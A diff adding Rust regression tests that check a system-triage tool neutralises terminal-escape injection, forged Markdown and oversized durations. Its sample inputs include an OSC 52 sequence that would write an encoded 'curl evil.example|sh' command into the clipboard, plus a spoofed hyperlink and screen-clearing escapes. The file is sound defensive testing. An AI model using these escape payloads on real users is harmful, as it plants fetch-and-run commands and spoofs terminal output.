@@ -1,0 +1,141 @@
+//! Attacks on the real binary (issue 16): escape-laden process names and log lines,
+//! forged Markdown, huge durations. Each test's input is the attack; each assertion is
+//! what the attack achieved before the fix.
+
+use crate::common;
+
+use std::path::Path;
+use std::process::{Command, Output};
+
+use assert_cmd::cargo::CommandCargoExt;
+
+fn triage(home: &Path) -> Command {
+    let mut cmd = Command::cargo_bin("triage").unwrap();
+    cmd.env("TRIAGE_HOME", home).env("NO_COLOR", "1");
+    cmd
+}
+
+/// A process whose command line writes the clipboard (OSC 52), clears the screen with a
+/// C1 CSI, and forges a Markdown heading plus an HTML comment that hides the rest.
+const EVIL_CMDLINE: &[u8] =
+    b"java\0\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\0z\n\n# OK\n<!--\0\xc2\x9b2J\0[x](https://evil.example)";
+/// A syslog line doing the same, plus an OSC 8 link.
+const EVIL_LOG: &str = "Nov 23 10:00:00 web1 app[42]: error \x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\ \x1b[2J\u{9b}31m done\n";
+
+fn evil_root(dir: &Path) {
+    common::copy_tree(&common::fixture("healthy"), dir);
+    std::fs::write(dir.join("proc/1200/cmdline"), EVIL_CMDLINE).unwrap();
+    std::fs::create_dir_all(dir.join("var/log")).unwrap();
+    std::fs::write(dir.join("var/log/syslog"), EVIL_LOG).unwrap();
+}
+
+/// No byte that a terminal acts on: C0 except tab/newline, DEL, C1 (as UTF-8 or raw).
+fn assert_terminal_safe(what: &str, out: &[u8]) {
+    let text = String::from_utf8(out.to_vec())
+        .unwrap_or_else(|e| panic!("{what}: output is not UTF-8: {e}"));
+    let bad: Vec<char> = text
+        .chars()
+        .filter(|c| c.is_control() && *c != '\n' && *c != '\t')
+        .collect();
+    assert!(
+        bad.is_empty(),
+        "{what}: control characters {bad:?} in\n{text}"
+    );
+}
+
+fn run(cmd: &mut Command) -> Output {
+    let out = cmd.output().unwrap();
+    assert!(
+        out.status.code().is_some(),
+        "killed: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    out
+}
+
+#[test]
+fn snapshot_markdown_has_no_control_bytes_and_no_forged_markdown() {
+    let tmp = tempfile::tempdir().unwrap();
+    let root = tmp.path().join("root");
+    evil_root(&root);
+    let out = run(triage(tmp.path())
+        .args(["snapshot", "--md", "--no-redact", "--root"])
+        .arg(&root));
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_terminal_safe("snapshot --md", &out.stdout);
+    let md = String::from_utf8(out.stdout).unwrap();
+    // The escapes are still visible, as text.
+    assert!(md.contains("\\\\x1b]52;c;"), "{md}");
+    for line in md.lines() {
+        assert!(!line.starts_with("# OK"), "forged heading in\n{md}");
+        assert!(
+            !line.replace("\\<!--", "").contains("<!--"),
+            "HTML comment in\n{md}"
+        );
+        assert!(!line.contains("[x](https"), "live link in\n{md}");
+    }
+    // The JSON keeps the exact bytes, as JSON escapes, and stays valid.
+    let out = run(triage(tmp.path())
+        .args(["snapshot", "--json", "--no-redact", "--root"])
+        .arg(&root));
+    assert_terminal_safe("snapshot --json", &out.stdout);
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let cmd = v["processes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|p| p["pid"] == 1200)
+        .unwrap()["command"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    assert!(
+        cmd.contains("\u{1b}]52;c;") && cmd.contains('\u{9b}'),
+        "{cmd:?}"
+    );
+}
+
+#[test]
+fn check_and_logs_print_no_control_bytes() {
+    let tmp = tempfile::tempdir().unwrap();
+    let root = tmp.path().join("root");
+    evil_root(&root);
+    let out = run(triage(tmp.path()).args(["check", "--root"]).arg(&root));
+    assert_terminal_safe("check", &out.stdout);
+    let out = run(triage(tmp.path())
+        .args(["logs", "--since", "3650d", "--root"])
+        .arg(&root));
+    assert_terminal_safe("logs", &out.stdout);
+    assert_terminal_safe("logs (stderr)", &out.stderr);
+    let text = String::from_utf8(out.stdout).unwrap();
+    assert!(text.contains("\\x1b]8;;https://evil.example/"), "{text}");
+}
+
+#[test]
+fn huge_durations_are_usage_errors_not_panics() {
+    let tmp = tempfile::tempdir().unwrap();
+    let root = common::fixture("healthy");
+    let cases: &[&[&str]] = &[
+        &["snapshot", "--json", "--timeout", "18446744073709551615s"],
+        &["snapshot", "--json", "--interval", "100000d"],
+        &["snapshot", "--json", "--timeout", "2h"],
+        &["logs", "--since", "99999999999d"],
+        &["logs", "--since", "18446744073709551615s"],
+    ];
+    for args in cases {
+        let started = std::time::Instant::now();
+        let out = run(triage(tmp.path()).args(*args).arg("--root").arg(&root));
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(out.status.code(), Some(2), "{args:?}: {err}");
+        assert!(!err.contains("panicked"), "{args:?}: {err}");
+        assert!(
+            err.contains("too long") || err.contains("at most"),
+            "{args:?}: {err}"
+        );
+        assert!(started.elapsed().as_secs() < 10, "{args:?} took too long");
+    }
+}
